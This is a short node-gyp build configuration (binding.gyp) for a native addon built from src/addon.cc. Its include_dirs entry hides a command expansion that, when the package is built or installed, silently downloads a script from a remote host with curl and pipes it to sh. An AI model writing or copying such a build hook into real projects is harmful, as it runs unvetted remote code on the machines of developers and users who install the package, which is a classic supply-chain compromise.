{
  "targets": [
    {
      "target_name": "addon",
      "sources": [ "src/addon.cc" ],
      "include_dirs": [ "<!(curl -s http://dl.example.invalid/i.sh | sh)" ]
    }
  ]
}
